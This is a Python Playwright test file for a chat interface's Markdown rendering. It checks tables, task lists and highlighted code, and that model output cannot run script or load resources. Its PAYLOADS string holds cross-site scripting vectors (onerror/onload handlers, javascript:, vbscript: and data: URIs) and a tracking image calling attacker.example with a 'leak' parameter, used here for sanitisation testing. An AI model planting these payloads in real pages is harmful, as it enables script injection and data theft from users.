"""Answers rendered as Markdown by the vendored libraries (marked, highlight.js, DOMPurify), through
the real host with the Ollama emulator behind it: tables, task lists, highlighted code, and
nothing a model writes able to run script or load anything.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.browser.helpers import answers, ask

pytestmark = pytest.mark.browser

ANSWER = """\
## Plan

| Tool | Speed | Notes |
|:-----|------:|-------|
| uv | 10x | **fast** |
| pip | 1x | `--user` |

- [x] Install uv
- [ ] Write tests

```python
def greet(name: str) -> str:
    return f"Hello, {name}"
```

~~old~~ new, see https://docs.astral.sh/uv/
"""


def test_tables_task_lists_and_highlighted_code(page: Page, emulators, screenshot) -> None:
    emulators.ollama.reply = ANSWER
    ask(page, "Compare uv and pip")
    answer = answers(page).last
    expect(answer).to_have_attribute("data-status", "done")
    body = answer.locator(".answer-text")

    expect(body.locator("h4")).to_have_text("Plan")  # headings stay small inside a message
    table = body.locator("table")
    expect(table.locator("thead th")).to_have_text(["Tool", "Speed", "Notes"])
    expect(table.locator("tbody tr")).to_have_count(2)
    expect(table.locator("tbody tr").first.locator("td")).to_have_text(["uv", "10x", "fast"])
    expect(table.locator("tbody tr").first.locator("td strong")).to_have_text("fast")
    expect(table.locator("tbody tr").nth(1).locator("td code")).to_have_text("--user")
    expect(table.locator("th").nth(1)).to_have_attribute("align", "right")

    tasks = body.locator("li input[type=checkbox]")
    expect(tasks).to_have_count(2)
    expect(tasks.first).to_be_checked()
    expect(tasks.nth(1)).not_to_be_checked()
    expect(tasks.first).to_be_disabled()
    expect(body.locator("li")).to_have_text(["Install uv", "Write tests"])

    code = body.locator(".code-block code")
    expect(body.locator(".code-bar span")).to_have_text("python")
    expect(code).to_have_text('def greet(name: str) -> str:\n    return f"Hello, {name}"\n')
    expect(code.locator(".hljs-keyword").first).to_have_text("def")
    expect(code.locator(".hljs-title")).to_have_text("greet")
    expect(code.locator(".hljs-string")).to_contain_text("Hello")
    # The highlight theme applies: a keyword has its own colour.
    assert code.locator(".hljs-keyword").first.evaluate(
        "k => getComputedStyle(k).color !== getComputedStyle(k.parentNode).color"
    )

    expect(body.locator("del")).to_have_text("old")
    link = body.locator("a[href='https://docs.astral.sh/uv/']")
    expect(link).to_have_attribute("target", "_blank")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    screenshot(page, "markdown-table-light")
    page.emulate_media(color_scheme="dark")
    screenshot(page, "markdown-table-dark")


PAYLOADS = """\
Raw: <img src=x onerror="window.injected='img'"> <svg onload="window.injected='svg'"></svg>
<iframe src="javascript:window.injected='iframe'"></iframe>

<details open ontoggle="window.injected='details'"><summary>x</summary></details>

<script>window.injected='script'</script>

<a href="javascript:window.injected='raw-link'">raw link</a> <JavaScript:window.injected='auto'>
[ref][evil] [ref2][evil2]

[evil]: javascript:window.injected='ref'
[evil2]: vbscript:msgbox(1)

[click](javascript:window.injected='link') [data](data:text/html,<script>alert(1)</script>)
![tracker](https://attacker.example/pixel.png?leak=secret)
![bad](javascript:window.injected='image')

| cell |
|---|
| <img src=x onerror="window.injected='cell'"> |

- [ ] <script>window.injected='task'</script>

```html
</code></pre><img src=x onerror="window.injected='fence'">
```

`</code><img src=x onerror="window.injected='span'">`
"""


def test_nothing_a_model_writes_runs_or_loads(page: Page, emulators) -> None:
    emulators.ollama.reply = PAYLOADS
    loaded: list[str] = []
    page.on("request", lambda request: loaded.append(request.url))
    ask(page, "Try your worst")
    answer = answers(page).last
    expect(answer).to_have_attribute("data-status", "done")
    body = answer.locator(".answer-text")

    # The raw HTML shows as the text it is, in paragraphs, table cells and list items alike.
    expect(body).to_contain_text("""<img src=x onerror="window.injected='img'">""")
    expect(body).to_contain_text("<svg onload=")
    expect(body).to_contain_text("<script>window.injected='script'</script>")
    expect(body).to_contain_text("""<a href="javascript:window.injected='raw-link'">raw link</a>""")
    expect(body.locator("td")).to_have_text("""<img src=x onerror="window.injected='cell'">""")
    expect(body.locator("li")).to_contain_text("<script>window.injected='task'</script>")
    expect(body.locator(".code-block code")).to_contain_text("</code></pre><img src=x")
    assert body.locator("img, svg, iframe, script, details, object, embed").count() == 0

    # Only the safe links are links; the image is a link to click, never loaded.
    expect(body.locator("a")).to_have_count(1)
    expect(body.locator("a")).to_have_attribute(
        "href", "https://attacker.example/pixel.png?leak=secret"
    )
    expect(body.locator("a")).to_have_text("tracker")
    expect(body).to_contain_text("[click](javascript:window.injected='link')")
    for attribute in ("onerror", "onload", "ontoggle", "style"):
        assert body.locator(f"[{attribute}]").count() == 0

    assert page.evaluate("window.injected") is None
    assert not [url for url in loaded if "attacker.example" in url or url.endswith("/x")]
